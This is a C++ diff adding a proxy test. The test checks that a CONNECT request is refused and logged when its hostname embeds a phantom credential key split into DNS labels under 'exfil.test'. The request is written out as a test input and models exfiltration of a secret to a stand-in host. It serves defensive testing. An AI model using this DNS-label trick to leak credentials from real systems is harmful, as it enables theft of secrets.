@@ -14,6 +14,8 @@
 #include <thread>
 #include <vector>
 
+#include "credentials_test_util.h"
+#include "net/credentials.h"
 #include "proxy_test_util.h"
 
 namespace ward::net {
@@ -462,6 +464,34 @@ TEST_F(ProxyApprovalTest, HostsWithARuleAreNotAsked) {
   ASSERT_TRUE(SendAll(fd.get(), Connect("allowed.test:" + std::to_string(origin_.port()))));
   EXPECT_EQ(HeadEnd(fd.get()), "HTTP/1.1 200 Connection established\r\n\r\n");
   EXPECT_TRUE(approver_.questions().empty());
+}
+
+TEST(ProxyApprovalLeak, APhantomInTheTargetIsRefusedWithoutAsking) {
+  CredentialSpec spec;
+  spec.name = "anthropic";
+  spec.secret = "0123456789abcdef0123456789abcdef01234567";  // alnum: DNS labels
+  spec.hosts = testing::Hosts({"api.test"});
+  spec.inject = {policy::CredentialInject::Kind::kHeader, "x-api-key", "{secret}"};
+  auto broker = CredentialBroker::Create({spec});
+  ASSERT_TRUE(broker.ok()) << broker.status().ToString();
+  std::string key = (*broker)->credentials()[0].phantom_key;
+  ASSERT_GT(key.size(), 30u);
+  ASSERT_LT(key.size(), 80u);
+  Approver approver;
+  approver.set_mode(Approver::Mode::kAllow);
+  ProxyOptions options;
+  options.credentials = broker->get();
+  options.ask_host = approver.Hook();
+  ProxyHarness proxy(MakeRules({"127.0.0.1:*"}), options);
+  // A host no rule names, carrying the phantom: the approver must never see it.
+  std::string authority = key.substr(0, 20) + "." + key.substr(20) + ".exfil.test:443";
+  UniqueFd fd = ConnectTo(proxy.port());
+  ASSERT_TRUE(SendAll(fd.get(), Connect(authority)));
+  HttpResult r = RecvHttpResponse(fd.get());
+  EXPECT_EQ(r.status, 403);
+  EXPECT_TRUE(approver.questions().empty());
+  EXPECT_EQ(proxy.events("credential.leak_attempt").size(), 1u);
+  proxy.StopAndJoin();
 }
 
 TEST(ProxyApprovalOff, WithoutAHookAHostWithoutARuleIsDeniedAtOnce) {
